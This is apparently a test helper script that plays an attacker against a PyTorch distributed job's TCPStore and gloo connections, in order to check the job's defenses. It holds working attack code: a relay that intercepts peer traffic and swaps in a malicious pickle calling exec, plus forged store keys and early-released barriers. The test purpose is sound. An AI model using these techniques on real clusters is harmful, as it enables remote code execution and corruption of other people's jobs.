"""The attacker of tests/test_attack.py, run in the second network namespace: a store client
on the cluster network that rewrites every value it can, with a relay for gloo's connections.

Usage: ``python tests/_attacker.py MODE STORE_HOST STORE_PORT MY_ADDR CANARY SECONDS REPORT``.

For ``SECONDS`` it lists the job's store keys again and again (``TCPStore.list_keys``) and, the
first time it sees each key (MODE ``relay``: only gloo's records; MODE ``forge``: all the
others):

- a gloo address record (a ``sockaddr_in`` of the job's host inside): points it at a relay of
  its own, which forwards the connection to the real peer and swaps any topo-encoded object
  it sees (``tpo1...``) for a pickle of the same length that would write ``CANARY``;
- a barrier arrival mark: writes that round's ``done`` key and bumps its counter, so the
  barrier would pass before the others arrive;
- anything else: rewrites it with a JSON value of its own (a forged gather or broadcast).

It writes what it did to ``REPORT`` (JSON). It never sends anything to a host other than the
job's store and the job's gloo peers, all inside the test's namespaces.
"""

from __future__ import annotations

import contextlib
import json
import pickle
import socket
import sys
import threading
import time
from datetime import timedelta
from typing import Any

import torch.distributed as dist


class _Payload:
    def __init__(self, canary: str) -> None:
        self.canary = canary

    def __reduce__(self) -> tuple[Any, ...]:
        code = f"open({self.canary!r}, 'w').write('the attacker ran code in a rank')"
        return (exec, (code,))


def _pipe(
    src: socket.socket, dst: socket.socket, swaps: dict[bytes, bytes], log: dict[str, Any]
) -> None:
    """Forward ``src`` to ``dst``; replace an object topo sends (its encoding's marker, or a
    pickle's header as topo sent before it stopped pickling) with a payload that would run code,
    of the same length."""
    with contextlib.suppress(OSError):
        while True:
            data = src.recv(1 << 16)
            if not data:
                break
            for marker, swap in swaps.items():
                at = data.find(marker)
                if at >= 0:
                    n = min(len(swap), len(data) - at)
                    data = data[:at] + swap[:n] + data[at + n :]
                    log["swapped"] += 1
                    break
            dst.sendall(data)
    for s in (src, dst):
        with contextlib.suppress(OSError):
            s.shutdown(socket.SHUT_RDWR)


def _relay(
    my_addr: str, target: tuple[str, int], swap: dict[bytes, bytes], log: dict[str, Any]
) -> int:
    """Listen on ``my_addr``; forward every connection to ``target``. Returns the port."""
    server = socket.create_server((my_addr, 0))

    def serve() -> None:
        while True:
            try:
                conn, _ = server.accept()
            except OSError:
                return
            log["relayed"] += 1
            try:
                upstream = socket.create_connection(target, timeout=5)
            except OSError:
                conn.close()
                continue
            threading.Thread(target=_pipe, args=(conn, upstream, swap, log), daemon=True).start()
            threading.Thread(target=_pipe, args=(upstream, conn, swap, log), daemon=True).start()

    threading.Thread(target=serve, daemon=True).start()
    port: int = server.getsockname()[1]
    return port


def main() -> None:
    mode, host, port, my_addr, canary, seconds, report = sys.argv[1:8]
    job_ip = socket.inet_aton(host)
    evil = pickle.dumps(_Payload(canary), protocol=4)
    swap = {b"tpo1": b"pkl1" + evil + b"\0" * 16, b"\x80\x04\x95": evil + b"\0" * 16}
    log: dict[str, Any] = {"keys": 0, "records": 0, "barriers": 0, "rewritten": 0,
                           "relayed": 0, "swapped": 0, "errors": []}  # fmt: skip
    store = None
    end = time.monotonic() + float(seconds)
    while store is None and time.monotonic() < end:
        try:
            # a short timeout: a key the job deletes between list and get must not stall us
            store = dist.TCPStore(host, int(port), None, False, timedelta(seconds=0.3))
        except Exception:
            time.sleep(0.05)
    done: set[str] = set()
    while store is not None and time.monotonic() < end:
        try:
            keys = store.list_keys()
        except Exception as error:  # a broken connection (or the job ended): reconnect
            log["errors"].append(f"list_keys: {type(error).__name__}")
            with contextlib.suppress(Exception):
                store = dist.TCPStore(host, int(port), None, False, timedelta(seconds=0.3))
            time.sleep(0.05)
            continue
        for key in keys:
            if key in done:
                continue
            done.add(key)
            log["keys"] += 1
            try:
                if not store.check([key]):
                    continue  # the job deleted it already
                value = store.get(key)
                at = value.find(b"\x02\x00")
                while at >= 0 and value[at + 4 : at + 8] != job_ip:
                    at = value.find(b"\x02\x00", at + 1)
                record = at >= 0 and len(value) >= 120
                if record != (mode == "relay"):
                    continue  # the other mode's key
                if record:  # a gloo address record: redirect it
                    target = (host, int.from_bytes(value[at + 2 : at + 4], "big"))
                    relay = _relay(my_addr, target, swap, log)
                    forged = (
                        value[:at + 2] + relay.to_bytes(2, "big") + socket.inet_aton(my_addr)
                        + value[at + 8 :]
                    )  # fmt: skip
                    store.set(key, forged)
                    log["records"] += 1
                elif "/arrived/" in key:  # a barrier: let it pass before everyone is there
                    base = key.rsplit("/arrived/", 1)[0]
                    store.set(f"{base}/done", b"1")
                    store.add(f"{base}/count", 100)
                    log["barriers"] += 1
                    log.setdefault("forged", []).append(f"{base}/done")
                else:
                    store.set(key, json.dumps(["forged", key]).encode())
                    log["rewritten"] += 1
                    log.setdefault("forged", []).append(key)
            except Exception as error:
                log["errors"].append(f"{key}: {type(error).__name__}: {error}"[:200])
        time.sleep(0.01)
    with open(report, "w") as f:
        json.dump(log, f)


if __name__ == "__main__":
    main()
